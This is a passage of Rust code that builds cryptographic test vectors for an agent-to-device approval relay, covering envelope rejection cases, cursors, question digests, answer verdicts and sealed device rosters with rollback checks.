            ),
            reject_case(
                "checkpoint opened with a non-empty deviceId",
                &self_key,
                AadFields::new(AGENT_ID, DEVICE_ID, "self", kind::CHECKPOINT, "ckp_vector"),
                ckp_env,
                "open",
            ),
            reject_case(
                "yes moved to another question",
                &device_key,
                AadFields::new(AGENT_ID, DEVICE_ID, "d2a", KIND_ANSWER, "qst_other"),
                answer_env.clone(),
                "open",
            ),
            reject_case(
                "yes presented as another device's (with that device's key)",
                &keys::device_key(&MASTER, AGENT_ID, "dv_other"),
                AadFields::new(AGENT_ID, "dv_other", "d2a", KIND_ANSWER, question_id),
                answer_env.clone(),
                "open",
            ),
            reject_case(
                "yes presented as a task with the question's id",
                &device_key,
                AadFields::new(AGENT_ID, DEVICE_ID, "d2a", kind::MESSAGE, question_id),
                answer_env,
                "open",
            ),
            reject_case(
                "the agent's question reflected back as an answer",
                &device_key,
                answer_fields(),
                question_env,
                "open",
            ),
            reject_case(
                "answer copy opened as the answer (answer key, kind answer)",
                &answer_key,
                AadFields::new(AGENT_ID, DEVICE_ID, "d2a", KIND_ANSWER, DIGEST_QUESTION_ID),
                copy_env.clone(),
                "open",
            ),
            reject_case(
                "answer copy presented as another device's",
                &answer_key,
                AadFields::new(AGENT_ID, "dv_other", "d2a", KIND_ANSWER_COPY, DIGEST_QUESTION_ID),
                copy_env.clone(),
                "open",
            ),
            reject_case(
                "answer copy moved to another question",
                &answer_key,
                AadFields::new(AGENT_ID, DEVICE_ID, "d2a", KIND_ANSWER_COPY, "qst_other"),
                copy_env,
                "open",
            ),
            reject_case(
                "answer presented as an answer copy (device key, kind answer_copy)",
                &device_key,
                copy_fields(),
                digest_answer_env,
                "open",
            ),
            reject_case(
                "version byte 0x02",
                &device_key,
                task_fields(),
                b64::encode(&wrong_version),
                "malformed",
            ),
            reject_case(
                "28 bytes: too short",
                &device_key,
                task_fields(),
                too_short,
                "malformed",
            ),
            reject_case(
                "padded base64",
                &device_key,
                task_fields(),
                format!("{task_env}="),
                "malformed",
            ),
            reject_case(
                "standard base64 alphabet",
                &device_key,
                task_fields(),
                standard_alphabet(&task_env),
                "malformed",
            ),
            reject_case(
                "empty-plaintext envelope, non-canonical base64url (unused low bits set)",
                &empty_key,
                empty_fields(),
                empty_non_canonical,
                "malformed",
            ),
        ],
    }
}

// --------------------------------------------------------------------------------------------- cursor

#[derive(Serialize)]
#[serde(tag = "type", rename_all = "camelCase")]
enum CursorCase {
    /// `seq` is a decimal string: JavaScript numbers lose precision above 2^53.
    #[serde(rename_all = "camelCase")]
    Cursor {
        name: &'static str,
        seq: String,
        text: String,
    },
    #[serde(rename_all = "camelCase")]
    InvalidCursor { name: &'static str, text: &'static str },
}

fn cursor_file() -> File<CursorCase> {
    let valid = |name, seq: u64| CursorCase::Cursor {
        name,
        seq: seq.to_string(),
        text: Cursor(seq).to_string(),
    };
    File {
        description: "Cursors: \"c1.\" + base64url(sequence number as 8 bytes, big-endian). Clients treat them as \
                      opaque; only the relay parses them. seq is a decimal string and is at most 2^63 - 1. \
                      invalidCursor cases must be refused by the relay.",
        cases: vec![
            valid("start", 0),
            valid("one", 1),
            valid("one byte full", 255),
            valid("two bytes", 256),
            valid("2^32", 1 << 32),
            valid("above 2^53", (1 << 53) + 1),
            valid("largest", i64::MAX as u64),
            CursorCase::InvalidCursor {
                name: "empty",
                text: "",
            },
            CursorCase::InvalidCursor {
                name: "no body",
                text: "c1.",
            },
            CursorCase::InvalidCursor {
                name: "unknown version",
                text: "c2.AAAAAAAAAAE",
            },
            CursorCase::InvalidCursor {
                name: "no prefix",
                text: "AAAAAAAAAAE",
            },
            CursorCase::InvalidCursor {
                name: "3 bytes",
                text: "c1.AAAA",
            },
            CursorCase::InvalidCursor {
                name: "2^63, above the largest",
                text: "c1.gAAAAAAAAAA",
            },
            CursorCase::InvalidCursor {
                name: "padded",
                text: "c1.AAAAAAAAAAE=",
            },
            CursorCase::InvalidCursor {
                name: "non-canonical base64url (unused low bits set)",
                text: "c1.AAAAAAAAAAF",
            },
        ],
    }
}

// ------------------------------------------------------------------------------------------- question

#[derive(Serialize)]
#[serde(tag = "type", rename_all = "camelCase")]
enum QuestionCase {
    #[serde(rename_all = "camelCase")]
    QuestionDigest {
        name: &'static str,
        /// The question payload's bytes as sealed (and as opened), as text.
        plaintext: String,
        /// The same bytes, base64url: what is hashed.
        plaintext_bytes: String,
        digest: String,
    },
    #[serde(rename_all = "camelCase")]
    SameQuestion {
        name: &'static str,
        /// The question first stored under an id.
        first: String,
        /// The question asked again under that id.
        second: String,
        /// True: the second ask resumes the first; false: `question_id_conflict`.
        same: bool,
    },
    #[serde(rename_all = "camelCase")]
    Verdict(Box<VerdictCase>),
}

/// What the relay reports about a question (untrusted).
#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Report {
    state: &'static str,
    answered_by: Option<&'static str>,
    /// The relay's clock.
    answered_at: Option<String>,
    answer_envelope: Option<String>,
}

/// One verdict (docs/crypto.md §4.7): inputs, and the outcome every implementation must reach.
#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct VerdictCase {
    name: &'static str,
    agent_id: &'static str,
    question_id: &'static str,
    self_key: String,
    /// The agent's own copy of the question, sealed with selfKey.
    own_envelope: String,
    /// The key of each device the relay may name (derived from the master secret on the agent side).
    device_keys: Vec<DeviceKey>,
    /// The devices the agent's roster lets approve (active owners).
    may_approve: Vec<&'static str>,
    report: Report,
    /// What the answering device sealed, for the reader (`null`: nothing, or not a payload).
    answer_plaintext: Option<String>,
    /// The agent's clock.
    now: String,
    state: &'static str,
    approved: bool,
    /// The first check of docs/crypto.md §4.7 that failed (`"1"` to `"8"`, a string as in verdict.json,
    /// where `"6a"` is the signature's), when an answer was rejected.
    rejected_at_step: Option<String>,
    /// The Rust implementation's reason, for the reader.
    rejected: Option<&'static str>,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct DeviceKey {
    device_id: &'static str,
    key: String,
}

fn digest_case(name: &'static str, plaintext: String) -> QuestionCase {
    QuestionCase::QuestionDigest {
        name,
        plaintext_bytes: b64::encode(plaintext.as_bytes()),
        digest: question_digest(plaintext.as_bytes()),
        plaintext,
    }
}

fn same_question_case(name: &'static str, first: &QuestionPayload, second: &QuestionPayload) -> QuestionCase {
    QuestionCase::SameQuestion {
        name,
        first: json(first),
        second: json(second),
        same: first.same_question(second),
    }
}

/// The step of docs/crypto.md §4.7 that a rejection reason of `question::verdict` stands for.
fn verdict_step(reason: &str) -> u8 {
    match reason {
        "the relay reported an answer without its sealed content" => 1,
        "the answer comes from a device the question was not sent to" => 2,
        "the answer comes from a device the agent's roster does not trust (unknown, revoked or not an owner)" => {
            3
        }
        "the answer did not open with the answering device's key"
        | "the answer opened with the answering device's key but is malformed" => 4,
        "the answer names another question" => 5,
        "the answer was given to a different question asked under the same id" => 6,
        "the answer came after the expiry" => 7,
        "the answer does not fit the question" => 8,
        other => panic!("unknown rejection {other:?}"),
    }
}

/// Inputs of a verdict case; the outcome is the library's.
struct VerdictInput {
    name: &'static str,
    state: QuestionState,
    answered_by: Option<&'static str>,
    answered_at: Option<&'static str>,
    /// The sealed answer and, when it is a payload, its plaintext.
    answer: Option<(String, Option<String>)>,
    may_approve: &'static [&'static str],
    now: &'static str,
}

fn verdict_case(own: &OwnQuestion, own_envelope: &str, input: VerdictInput) -> QuestionCase {
    let (envelope, plaintext) = match input.answer {
        Some((e, p)) => (Some(e), p),
        None => (None, None),
    };
    let report = RelayReport {
        state: input.state,
        answered_by: input.answered_by,
        answered_at: input.answered_at.map(time),
        answer_envelope: envelope.as_deref(),
        channel: None,
    };
    let now = time(input.now);
    let v = question::verdict(
        AGENT_ID,
        own,
        &report,
        |device| keys::device_key(&MASTER, AGENT_ID, device),
        |device| input.may_approve.contains(&device),
        now,
    );
    QuestionCase::Verdict(Box::new(VerdictCase {
        name: input.name,
        agent_id: AGENT_ID,
        question_id: DIGEST_QUESTION_ID,
        self_key: b64::encode(&keys::self_key(&MASTER, AGENT_ID).to_bytes()),
        own_envelope: own_envelope.to_string(),
        device_keys: [DEVICE_ID, "dv_other", "dv_user-1"]
            .into_iter()
            .map(|device_id| DeviceKey {
                device_id,
                key: b64::encode(&keys::device_key(&MASTER, AGENT_ID, device_id).to_bytes()),
            })
            .collect(),
        may_approve: input.may_approve.to_vec(),
        report: Report {
            state: input.state.as_str(),
            answered_by: input.answered_by,
            answered_at: input.answered_at.map(|t| time(t).to_rfc3339()),
            answer_envelope: envelope,
        },
        answer_plaintext: plaintext,
        now: now.to_rfc3339(),
        state: v.state.as_str(),
        approved: v.approved,
        rejected_at_step: v.rejected.map(|r| verdict_step(r).to_string()),
        rejected: v.rejected,
    }))
}

/// `payload` sealed by `device` as its answer to the digest question, with a nonce of `n` repeated.
fn sealed_answer(device: &str, payload: &AnswerPayload, n: u8) -> (String, Option<String>) {
    sealed_answer_text(device, json(payload), n)
}

fn sealed_answer_text(device: &str, plaintext: String, n: u8) -> (String, Option<String>) {
    let envelope = envelope::seal_with_nonce(
        &keys::device_key(&MASTER, AGENT_ID, device),
        &question::answer_aad(AGENT_ID, device, DIGEST_QUESTION_ID),
        [n; 12],
        plaintext.as_bytes(),
    );
    (envelope, Some(plaintext))
}

fn verdict_cases() -> Vec<QuestionCase> {
    let plain = json(&digest_question());
    let own_envelope = envelope::seal_with_nonce(
        &keys::self_key(&MASTER, AGENT_ID),
        &question::question_aad(AGENT_ID, "", DIGEST_QUESTION_ID),
        counting(0x28),
        plain.as_bytes(),
    );
    let own = OwnQuestion::open(
        &keys::self_key(&MASTER, AGENT_ID),
        AGENT_ID,
        DIGEST_QUESTION_ID,
        &own_envelope,
    )
    .expect("own copy opens");
    let yes = digest_answer();
    let with = |answer: Answer| AnswerPayload {
        answer,
        ..digest_answer()
    };
    let drop_digest = question_digest(
        json(&QuestionPayload {
            question: "Drop the production database?".into(),
            details: None,
            ..digest_question()
        })
        .as_bytes(),
    );
    const OWNERS: &[&str] = &[DEVICE_ID, "dv_other"];
    const ONLY_VECTOR: &[&str] = &[DEVICE_ID];
    let input = |name, answer: Option<(String, Option<String>)>| VerdictInput {
        name,
        state: QuestionState::Answered,
        answered_by: Some(DEVICE_ID),
        answered_at: Some("2026-11-30T00:41:02.500Z"),
        answer,
        may_approve: OWNERS,
        now: "2026-11-30T00:50:00.000Z",
    };
    let cases = vec![
        input(
            "a yes from a trusted recipient, in time: approved",
            Some(sealed_answer(DEVICE_ID, &yes, 0x01)),
        ),
        input(
            "a no: answered, not approved",
            Some(sealed_answer(DEVICE_ID, &with(Answer::No), 0x02)),
        ),
        VerdictInput {
            state: QuestionState::Pending,
            answered_by: None,
            answered_at: None,
            ..input("the relay says pending, before the expiry: pending", None)
        },
        VerdictInput {
            state: QuestionState::Pending,
            answered_by: None,
            answered_at: None,
            now: "2026-11-30T01:00:00.000Z",
            ..input(
                "the relay says pending at the expiry, by the agent's clock: expired",
                None,
            )
        },
        VerdictInput {
            state: QuestionState::Cancelled,
            answered_by: None,
            answered_at: None,
            ..input("the relay says cancelled: cancelled", None)
        },
        input("the relay says answered without the sealed answer", None),
        VerdictInput {
            answered_by: Some("dv_user-1"),
            ..input(
                "answered by a device the question was not sent to",
                Some(sealed_answer("dv_user-1", &yes, 0x03)),
            )
        },
        VerdictInput {
            may_approve: ONLY_VECTOR,
            answered_by: Some("dv_other"),
            ..input(
                "a recipient the roster no longer trusts (revoked since the ask)",
                Some(sealed_answer("dv_other", &yes, 0x04)),
            )
        },
        VerdictInput {
            may_approve: &[],
            ..input(
                "no roster (version 0): nobody approves",
                Some(sealed_answer(DEVICE_ID, &yes, 0x05)),
            )
        },
        VerdictInput {
            answered_by: Some("dv_other"),
            ..input(
                "dv_vector's yes claimed as dv_other's",
                Some(sealed_answer(DEVICE_ID, &yes, 0x06)),
            )
        },
        input(
            "the answer copy presented as the answer",
            Some((
                envelope::seal_with_nonce(
                    &ContentKey::from_bytes(ANSWER_KEY),
                    &question::answer_copy_aad(AGENT_ID, DEVICE_ID, DIGEST_QUESTION_ID),
                    counting(0xe0),
                    json(&yes).as_bytes(),
                ),
                None,
            )),
        ),
        input(
            "an answer that opens but is not an answer payload",
            Some(sealed_answer_text(DEVICE_ID, "{\"answer\":\"yes\"}".into(), 0x07)),
        ),
        input(
            "an answer naming another question id",
            Some(sealed_answer(
                DEVICE_ID,
                &AnswerPayload {
                    question_id: "qst_other".into(),
                    ..digest_answer()
                },
                0x08,
            )),
        ),
        input(
            "an answer without questionDigest (an older device)",
            Some(sealed_answer(
                DEVICE_ID,
                &AnswerPayload {
                    question_digest: None,
                    ..digest_answer()
                },
                0x09,
            )),
        ),
        input(
            "a yes given to another question asked under the same id",
            Some(sealed_answer(
                DEVICE_ID,
                &AnswerPayload {
                    question_digest: Some(drop_digest),
                    ..digest_answer()
                },
                0x0a,
            )),
        ),
        VerdictInput {
            now: "2026-11-30T01:05:00.000Z",
            ..input(
                "answered at the expiry by the device's clock",
                Some(sealed_answer(
                    DEVICE_ID,
                    &AnswerPayload {
                        answered_at: time("2026-11-30T01:00:00.000Z"),
                        ..digest_answer()
                    },
                    0x0b,
                )),
            )
        },
        VerdictInput {
            answered_at: Some("2026-11-30T01:00:00.001Z"),
            now: "2026-11-30T01:05:00.000Z",
            ..input(
                "accepted by the relay after the expiry",
                Some(sealed_answer(DEVICE_ID, &yes, 0x0c)),
            )
        },
        input(
            "options to a yes/no question",
            Some(sealed_answer(
                DEVICE_ID,
                &with(Answer::Options(vec!["yes".into()])),
                0x0d,
            )),
        ),
    ];
    cases
        .into_iter()
        .map(|c| verdict_case(&own, &own_envelope, c))
        .collect()
}

fn question_file() -> File<QuestionCase> {
    let asked = digest_question();
    let drop = QuestionPayload {
        question: "Drop the production database?".into(),
        details: None,
        ..digest_question()
    };
    let later = QuestionPayload {
        expires_at: Timestamp::parse("2026-11-30T02:30:00.000Z").expect("fixed time parses"),
        recipients: vec![DEVICE_ID.into()],
        answer_key: Some(b64::encode(&[0x67u8; 32])),
        ..digest_question()
    };
    let choice = QuestionPayload {
        question: "Which branch?".into(),
        kind: QuestionKind::Choice,
        options: vec!["main".into(), "release".into()],
        details: None,
        ..digest_question()
    };
    File {
        description: "Question digests and question ids. The agent serialises a QuestionPayload once and seals the \
                      same bytes for itself (selfKey, direction \"self\") and for each recipient (deviceKey, \
                      \"a2d\"). questionDigest = base64url(SHA-256(plaintext bytes as opened)), without any \
                      canonicalisation: other bytes for the same JSON value (member order, whitespace) give \
                      another digest. The first questionDigest case is the plaintext of envelope.json's \"question \
                      with an answer key\" cases, and its digest is the questionDigest inside envelope.json's \
                      \"answer: yes, naming the question's digest\". sameQuestion cases: an id already names \
                      `first`; asking `second` under it resumes it when same is true (text, kind, options, \
                      multiple, details, user and whether channels holds \"host\" equal; expiresAt, recipients \
                      and answerKey are not compared) and fails with question_id_conflict when false. verdict cases (docs/crypto.md §4.7): the agent \
                      opens ownEnvelope with selfKey as its own copy of question questionId, takes the relay's \
                      report, the device keys, the devices its roster lets approve (mayApprove) and its clock \
                      (now), and must reach state and approved; rejectedAtStep is the first check that failed \
                      (\"1\" to \"8\", a string as in verdict.json) when an answer was rejected, rejected the \
                      reference implementation's reason.",
        cases: vec![
            digest_case(
                "the question asked under qst_digest (answer key, two recipients)",
                json(&asked),
            ),
            digest_case(
                "another question under the same id (Drop the production database?)",
                json(&drop),
            ),
            digest_case(
                "the same question asked again later (another expiry, recipients and answer key)",
                json(&later),
            ),
            digest_case(
                "the same JSON value pretty-printed: other bytes, another digest",
                serde_json::to_string_pretty(&asked).expect("question serialises"),
            ),
            digest_case("empty plaintext (SHA-256 of nothing)", String::new()),
            same_question_case(
                "asked again later: another expiry, recipients and answer key",
                &asked,
                &later,
            ),
            same_question_case("another text", &asked, &drop),
            same_question_case(
                "details removed",
                &asked,
                &QuestionPayload {
                    details: None,
                    ..digest_question()
                },
            ),
            same_question_case(
                "another kind",
                &asked,
                &QuestionPayload {
                    kind: QuestionKind::Text,
                    ..digest_question()
                },
            ),
            same_question_case(
                "options in another order",
                &choice,
                &QuestionPayload {
                    options: vec!["release".into(), "main".into()],
                    ..choice.clone()
                },
            ),
            same_question_case(
                "several options allowed",
                &choice,
                &QuestionPayload {
                    multiple: true,
                    ..choice.clone()
                },
            ),
        ]
        .into_iter()
        .chain(verdict_cases())
        .collect(),
    }
}

// --------------------------------------------------------------------------------------------- roster

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct DeviceCheck {
    device_id: &'static str,
    /// Listed and not revoked: notifications go to it.
    active: bool,
    /// Listed, not revoked and an owner: its answers may approve.
    may_approve: bool,
}

#[derive(Serialize)]
#[serde(tag = "type", rename_all = "camelCase")]
enum RosterCase {
    #[serde(rename_all = "camelCase")]
    Roster {
        name: &'static str,
        self_key: String,
        agent_id: &'static str,
        version: u64,
        /// The roster exactly as serialised (the plaintext).
        roster_json: String,
        aad_fields: AadFields,
        aad: String,
        nonce: String,
        envelope: String,
        devices: Vec<DeviceCheck>,
    },
    #[serde(rename_all = "camelCase")]
    RejectRoster {
        name: &'static str,
        self_key: String,
        /// The agent and version the opener expects (the version is the one the relay names).
        agent_id: &'static str,
        version: u64,
        /// What was sealed.
        plaintext: String,
        envelope: String,
        /// `open` (authentication failed) or `malformed` (opened, but not a valid roster for that agent
        /// and version).
        error: &'static str,
    },
    #[serde(rename_all = "camelCase")]
    RosterMark {
        name: &'static str,
        /// The highest version this host has seen (0: none).
        seen: u64,
        /// The version the relay returns (0: no roster stored).
        version: u64,
        /// Accepted only when `version >= seen`; otherwise `roster_rollback`.
        accepted: bool,
    },
}

fn time(text: &str) -> Timestamp {
    Timestamp::parse(text).expect("fixed time parses")
}

fn roster_device(device_id: &str, role: Role, added_at: &str, revoked_at: Option<&str>) -> RosterDevice {
    RosterDevice {
        device_id: device_id.into(),
        role,
        added_at: time(added_at),
        revoked_at: revoked_at.map(time),
        signing_key: None,
        signing_key_pinned_at: None,
        signing_key_refused_at: None,
        user: None,
    }
}

/// Version 1: the vector device, as `pacerelle devices adopt` or the first pairing writes it.
fn roster_v1() -> Roster {
    Roster::empty(AGENT_ID).next(time("2026-11-30T00:10:00.250Z"), |d| {
        d.push(roster_device(
            DEVICE_ID,
            Role::Owner,
            "2026-11-30T00:10:00.250Z",
            None,
        ));
    })
}

/// Version 3: a user device added (version 2), then an owner added and revoked (version 3, as one change
/// for the vector's sake).
fn roster_v3() -> Roster {
    let v2 = roster_v1().next(time("2026-11-30T09:00:00.000Z"), |d| {
        d.push(roster_device(
            "dv_user-1",
            Role::User,
            "2026-11-30T09:00:00.000Z",
            None,
        ));
    });
    v2.next(time("2026-12-01T18:45:30.125Z"), |d| {
        d.push(roster_device(
            "dv_old",
            Role::Owner,
            "2026-11-30T12:00:00.000Z",
            Some("2026-12-01T18:45:30.125Z"),
        ));
    })
}

fn roster_case(
    name: &'static str,
    self_key: &ContentKey,
    roster: &Roster,
    nonce: [u8; 12],
    checks: &[&'static str],
) -> RosterCase {
    let roster_json = json(roster);
    let version = roster.version.to_string();
    let fields = AadFields::new(&roster.agent_id, "", "self", KIND_ROSTER, &version);
    assert_eq!(roster::roster_aad(&roster.agent_id, &version), fields.aad());
    let envelope = envelope::seal_with_nonce(self_key, &fields.aad(), nonce, roster_json.as_bytes());
    RosterCase::Roster {
        name,
        self_key: b64::encode(&self_key.to_bytes()),
        agent_id: AGENT_ID,
        version: roster.version,
        aad: b64::encode(&fields.aad().to_bytes().expect("short fields")),
        aad_fields: fields,
        nonce: b64::encode(&nonce),
        envelope,
        devices: checks
            .iter()
            .map(|&device_id| DeviceCheck {
                device_id,
                active: roster.is_active(device_id),
                may_approve: roster.may_approve(device_id),
            })
            .collect(),
        roster_json,
    }
}

/// `plaintext` sealed with `seal_key` as roster `sealed_version` of `sealed_agent`, opened with `self_key` as
/// `version` of `agent_id`.
#[allow(clippy::too_many_arguments)]
fn reject_roster(
    name: &'static str,
    self_key: &ContentKey,
    seal_key: &ContentKey,
    sealed_agent: &str,
    sealed_version: u64,
    nonce: [u8; 12],
    plaintext: String,
    agent_id: &'static str,
    version: u64,
    error: &'static str,
) -> RosterCase {
    let label = sealed_version.to_string();
    let envelope = envelope::seal_with_nonce(
        seal_key,
        &roster::roster_aad(sealed_agent, &label),
        nonce,
        plaintext.as_bytes(),
    );
    RosterCase::RejectRoster {
        name,
        self_key: b64::encode(&self_key.to_bytes()),
        agent_id,
        version,
        plaintext,
        envelope,
        error,
    }
}

fn roster_file() -> File<RosterCase> {
    let self_key = keys::self_key(&MASTER, AGENT_ID);
    let v3 = roster_v3();
    let v3_json = json(&v3);
    // A roster whose content names version 2 sealed as version 3: it opens but is refused.
    let inner_v2 = json(&Roster {
        version: 2,
        ..roster_v3()
    });
    let twice = json(&Roster {
        devices: vec![roster_v1().devices[0].clone(), roster_v1().devices[0].clone()],
        ..roster_v1()
    });
    let unknown_member = v3_json.replacen("{\"v\":1,", "{\"v\":1,\"trustRelay\":true,", 1);
    assert_ne!(unknown_member, v3_json);
    let v2_format = v3_json.replacen("{\"v\":1,", "{\"v\":2,", 1);
    assert_ne!(v2_format, v3_json);
    let mark = |name, seen: u64, version: u64| {
        let accepted = Roster {
            version,
            ..Roster::empty(AGENT_ID)
        }
        .check_not_older(seen)
        .is_ok();
        RosterCase::RosterMark {
            name,
            seen,
            version,
            accepted,
        }
    };
    let checks = &[DEVICE_ID, "dv_user-1", "dv_old", "dv_unknown"];
    File {
        description: "Device rosters. rosterJson is the Roster exactly as the Rust implementation serialises it: v \
                      (1), agentId, version (starts at 1, +1 per change; 0 is the empty roster never stored), \
                      updatedAt, devices (deviceId, role \"owner\" or \"user\", addedAt, revokedAt omitted unless \
                      revoked); readers refuse unknown members. It is sealed with the agent's selfKey and the \
                      additional data (agentId, deviceId \"\", direction \"self\", kind \"roster\", objectId = the \
                      version as a decimal string). roster cases: seal rosterJson with nonce to envelope; open \
                      envelope as (agentId, version) back to rosterJson; devices lists, for each deviceId, whether \
                      it is active (listed, not revoked) and may approve (active owner). rejectRoster cases: \
                      opening envelope as roster `version` of `agentId` must fail, with error \"open\" when \
                      authentication fails and \"malformed\" when it opens but is not a valid roster of that agent \
                      and version (other version or agentId inside, unknown member, v other than 1, a device listed \
                      twice). rosterMark cases: a host that has seen version `seen` accepts a roster of version \
                      `version` (0: the relay has none) only when version >= seen, else roster_rollback.",
        cases: vec![
            roster_case(
                "version 1: one owner",
                &self_key,
                &roster_v1(),
                counting(0x48),
                checks,
            ),
            roster_case(
                "version 3: an owner, a user, a revoked owner",
                &self_key,
                &v3,
                counting(0x58),
                checks,
            ),
            reject_roster(
                "version 3 opened as version 2 (rolled back label)",
                &self_key,
                &self_key,
                AGENT_ID,
                3,
                counting(0x58),
                v3_json.clone(),
                AGENT_ID,
                2,
                "open",
            ),
            reject_roster(
                "version 3 opened as version 4",
                &self_key,
                &self_key,
                AGENT_ID,
                3,
                counting(0x58),
                v3_json.clone(),
                AGENT_ID,
                4,
                "open",
            ),
            reject_roster(
                "opened as another agent's roster (same key)",
                &self_key,
                &self_key,
                AGENT_ID,
                3,
                counting(0x58),
                v3_json.clone(),
                "ag_other",
                3,
                "open",
            ),
            reject_roster(
                "sealed with a device key instead of the self key",
                &self_key,
                &keys::device_key(&MASTER, AGENT_ID, DEVICE_ID),
                AGENT_ID,
                3,
                counting(0x58),
                v3_json.clone(),
                AGENT_ID,
                3,
                "open",
            ),
            reject_roster(
                "content says version 2, sealed as version 3",
                &self_key,
                &self_key,
                AGENT_ID,
                3,
                counting(0x68),
                inner_v2,
                AGENT_ID,
                3,
                "malformed",
            ),
            reject_roster(
                "content names agent ag_vector, sealed and opened as ag_other's (that agent's self key)",
                &keys::self_key(&MASTER, "ag_other"),
                &keys::self_key(&MASTER, "ag_other"),
                "ag_other",
                3,
                counting(0x78),
                v3_json.clone(),
                "ag_other",
                3,
                "malformed",
            ),
            reject_roster(
                "a device listed twice",
                &self_key,
                &self_key,
                AGENT_ID,
                1,
                counting(0x88),
                twice,
                AGENT_ID,
                1,
                "malformed",
            ),
            reject_roster(
                "unknown member",
                &self_key,
                &self_key,
                AGENT_ID,
                3,
                counting(0x98),
                unknown_member,
                AGENT_ID,
                3,
                "malformed",
            ),
            reject_roster(
                "format v 2",
                &self_key,
                &self_key,
                AGENT_ID,
                3,
                counting(0xa8),
                v2_format,
                AGENT_ID,
                3,
                "malformed",
            ),
            mark("fresh host, no roster stored", 0, 0),
            mark("fresh host, any stored version", 0, 3),
            mark("the version seen", 3, 3),
            mark("newer than seen", 3, 5),
            mark("older than seen: rollback", 3, 2),
            mark("roster deleted after one was seen", 3, 0),
        ],
    }
}

// ----------------------------------------------------------------------------------------- signature

/// The signing key seed of `dv_vector` (a phone, role owner).
const SIGNING_SEED: [u8; 32] = [0x77; 32];
/// The second device of the export, `dv_tablet` (role user), draws its seed from [`counting`]`(0x80)`.
const TABLET_ID: &str = "dv_tablet";
/// The third owner device of the export, `dv_second`, one of the two approvals of record 7 (docs/crypto.md
/// §4.7b); its seed is [`counting`]`(0x90)`.
const SECOND_ID: &str = "dv_second";
/// The fourth owner device of the export, `dv_third`, the other approval of record 7; its seed is
/// [`counting`]`(0xa0)`.
const THIRD_ID: &str = "dv_third";
/// The question of record 7, which needs two approvals.
const QUORUM_ID: &str = "qst_quorum";
/// The gate question of the export (record 6), which offers grants; `dv_vector` answers it yes with a grant
/// (docs/crypto.md §4.8b).
const GATE_ID: &str = "qst_gate";
/// When `dv_vector` answered the gate question: the grant's start.
const GATE_ANSWERED_AT: &str = "2026-11-30T05:10:00.000Z";
/// The project folder of the gate's call.
const GATE_FOLDER: &str = "/work/app";
/// The policy file of the gate that offered the grants: its digest binds them.
const GATE_POLICY: &str = "default = \"ask\"\ngrant = [\"15m\", \"1h\"]\n\n[[rule]]\ntool = \"Bash\"\n\
                           command = \"cargo *\"\ndecision = \"ask\"\ngrant_prefix = [\"cargo test\"]\n";
/// RFC 8032 §7.1, test 1: the seed, and the public key the RFC gives for it.
const RFC8032_SEED: &str = "9d61b19deffd5a60ba844af492ec2cc44449c5697b326919703bac031cae7f60";

#[derive(Serialize)]
#[serde(tag = "type", rename_all = "camelCase")]
enum SignatureCase {
    #[serde(rename_all = "camelCase")]
    SigningKey {
        name: &'static str,
        /// The 32-byte Ed25519 seed (RFC 8032 private key).
        seed: String,
        public_key: String,
        fingerprint: String,
    },
    #[serde(rename_all = "camelCase")]
    SignedAnswer {
        name: &'static str,
        seed: String,
        public_key: String,
        agent_id: &'static str,
        device_id: &'static str,
        question_id: &'static str,
        question_digest: String,
        answered_at: String,
        answer: Answer,
        /// `SignedAnswer::bytes` in lower-case hex.
        signed_bytes_hex: String,
        signature: String,
    },
    #[serde(rename_all = "camelCase")]
    SignedGrant {
        name: &'static str,
        seed: String,
        public_key: String,
        /// The fields the answer gives (`SignedGrantOf`).
        agent_id: &'static str,
        device_id: &'static str,
        question_id: &'static str,
        question_digest: String,
        granted_at: String,
        /// The offer of the agent's own copy of the question.
        offer: GrantOffer,
        /// The grant, with its signature.
        grant: Grant,
        /// `SignedGrant::bytes` in lower-case hex.
        signed_bytes_hex: String,
    },
    #[serde(rename_all = "camelCase")]
    RejectGrant {
        name: &'static str,
        /// The key the agent pinned for the device (`null`: none).
        public_key: Option<String>,
        agent_id: String,
        device_id: String,
        question_id: String,
        question_digest: String,
        granted_at: String,
        /// The offer of the agent's own copy of the question (`null`: it offered none).
        offer: Option<GrantOffer>,
        grant: Grant,
        /// `GrantRefusal::code`.
        refusal: &'static str,
        /// The Rust implementation's wording.
        reason: String,
    },
    #[serde(rename_all = "camelCase")]
    SealedSigningKey {
        name: &'static str,
        device_key: String,
        agent_id: &'static str,
        device_id: &'static str,
        public_key: String,
        payload_json: String,
        aad_fields: AadFields,
        aad: String,
        nonce: String,
        envelope: String,
    },
    #[serde(rename_all = "camelCase")]
    RejectSigningKey {
        name: &'static str,
        /// The key, agent and device the agent opens with.
        device_key: String,
        agent_id: &'static str,
        device_id: &'static str,
        /// What was sealed.
        plaintext: String,
        envelope: String,
        /// The key the relay lists in clear beside the seal, when it lists one.
        clear: Option<String>,
        /// `invalid` (does not open, or not this agent's and device's key) or `substituted`.
        error: &'static str,
    },
    #[serde(rename_all = "camelCase")]
    SignedVerdict {
        name: &'static str,
        agent_id: &'static str,
        question_id: &'static str,
        self_key: String,
        /// The agent's own copy of the question.
        own_envelope: String,
        /// The answering device, its device key, and the signing key the roster pins for it (`null`: none).
        device_id: &'static str,
        device_key: String,
        pinned_key: Option<String>,
        /// The roster's active owners.
        may_approve: Vec<&'static str>,
        /// The roster marks that the agent refused a signing key of that device (`signingKeyRefusedAt`).
        #[serde(skip_serializing_if = "std::ops::Not::not")]
        signing_key_refused: bool,
        /// The roster requires signed answers (`requireSignedSince`).
        #[serde(skip_serializing_if = "std::ops::Not::not")]
        require_signed: bool,
        /// What the relay reports: the answer time by its clock and the sealed answer.
        answered_at: String,
        answer_envelope: String,
        /// What the device sealed, for the reader.
        answer_plaintext: String,
        now: String,
        state: &'static str,
        approved: bool,
        /// The answer was accepted with a signature that verified.
        signed: bool,
        /// The step of docs/crypto.md §4.7 that rejects the answer (`6a`: the signature).
        rejected_at_step: Option<String>,
        rejected: Option<&'static str>,
    },
    #[serde(rename_all = "camelCase")]
    Export {
        name: &'static str,
        export: ExportJson,
        records: usize,
    },
    #[serde(rename_all = "camelCase")]
    RejectExport {
        name: &'static str,
        /// The document, as JSON in the vector file; absent when only its text can carry what is wrong with it
        /// (a member name given twice), which `exportText` then holds.
        #[serde(skip_serializing_if = "Option::is_none")]
        export: Option<ExportJson>,
        #[serde(skip_serializing_if = "Option::is_none")]
        export_text: Option<String>,
